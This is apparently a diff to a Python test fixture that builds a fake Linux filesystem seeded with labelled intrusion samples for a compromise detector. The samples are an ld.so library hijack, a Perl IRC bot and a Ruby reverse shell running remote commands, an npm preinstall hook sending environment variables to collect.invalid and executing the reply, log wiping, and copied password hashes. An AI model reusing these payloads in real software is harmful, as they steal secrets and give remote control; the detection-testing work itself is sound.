@@ -8,7 +8,9 @@ is a small Debian-like image; everything below ``files`` was written while the c
 from __future__ import annotations
 
 import base64
+import io
 import struct
+import tarfile
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -35,7 +37,8 @@ BASE: dict[str, F | bytes | str] = {
     "etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
     "etc/pam.d/sshd": "@include common-auth\naccount required pam_nologin.so\n", "etc/ssh/sshd_config": "PermitRootLogin no\n",
     "etc/profile": "PATH=/usr/bin:/bin\n", "etc/bash.bashrc": "PS1='$ '\n", "root/.bashrc": "# ~/.bashrc\n", "root/.profile": "# profile\n",
-    "etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n", "etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
+    "etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n", "usr/lib/x86_64-linux-gnu/libc.so.6": F(LIBRARY + b"c", 0o644), "var/log/dpkg.log": "2026-01-01 status installed\n",
+    "etc/crontab": "17 * * * * root run-parts /etc/cron.hourly\n",
     "etc/sudoers": "root ALL=(ALL:ALL) ALL\n", "etc/apt/apt.conf.d/70debconf": 'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n',
     "var/log/auth.log": "Nov 1 sshd[1]: Accepted publickey\n", "var/log/nginx/access.log": "GET / 200\n", "root/.bash_history": "ls\nvim a\n",
     "var/www/html/index.php": "<?php echo 'hello';\n", "app/package.json": '{"name":"app","scripts":{"start":"node server.js"}}\n',
@@ -62,6 +65,15 @@ class Attack:
 
 def _encode(text: str) -> str:
     return base64.b64encode(text.encode()).decode()
+
+
+def _pack(name: str, text: str) -> bytes:
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w") as tar:
+        member = tarfile.TarInfo(name)
+        member.size = len(text)
+        tar.addfile(member, io.BytesIO(text.encode()))
+    return raw.getvalue()
 
 
 def file(name: str, severity: Severity, rules: str, files: dict[str, F | bytes | str], **more: Any) -> Attack:
@@ -256,4 +268,13 @@ PROCESSES = [
     Attack("ruby script that runs what it receives", C, ("process.", "script."), files={"app/tmp.rb": "require 'socket'\ns=TCPSocket.new('203.0.113.66',443)\nwhile l=s.gets\n s.puts `#{l}`\nend\n"}, processes=(process(10, ["ruby", "/app/tmp.rb"], "/usr/bin/ruby3.1"),)),
 ]  # fmt: skip
 
-ATTACKS = (*PERSISTENCE, *FILES, *PROCESSES)
+LIVE = [
+    file("loader folder whose library stands before the system's", H, "persistence.loader", {"etc/ld.so.conf.d/00-locale.conf": "/usr/lib/locale-cache\n", "usr/lib/locale-cache/pam_unix.so": F(LIBRARY + b"own", 0o644), "usr/lib/locale-cache/libc.so.6": F(LIBRARY + b"own", 0o644)}),
+    file("perl bot that runs a part of what it is told", H, "script.", {"var/tmp/.sess.pl": "use Socket;\nwhile(1){ socket(my $s,PF_INET,SOCK_STREAM,6);\n if(connect($s,sockaddr_in(6667,inet_aton('192.0.2.55')))){ while(my $l=<$s>){ if($l=~/PRIVMSG .* :!x (.*)/){ my $o=`$1`; print $s $o; } } } sleep 2 }\n"}),
+    file("install hook in a file of its own that runs an answer", H, "script.", {"app/node_modules/lpad/package.json": '{"name":"lpad","scripts":{"preinstall":"node lib/setup.js"}}\n', "app/node_modules/lpad/lib/setup.js": "const h=require('https'),c=require('child_process');const r=h.request({host:'collect.invalid',method:'POST'},s=>{let b='';s.on('data',x=>b+=x);s.on('end',()=>c.exec(b))});r.write(JSON.stringify(process.env));r.end();\n"}),
+    file("log of the package manager emptied in place", M, "traces.log-emptied", {"var/log/dpkg.log": ""}),
+    file("password file in a small archive", H, "yara.password_hashes_copied", {"var/cache/fontconfig/.d/f": _pack("etc/shadow", "root:*:19000:0:99999:7:::\n")}, yara=True),
+    file("password file copied", H, "yara.password_hashes_copied", {"var/www/html/x.txt": "root:$y$j9T$abc/def.ghi:19000:0:99999:7:::\n"}, yara=True),
+]  # fmt: skip
+
+ATTACKS = (*PERSISTENCE, *FILES, *PROCESSES, *LIVE)
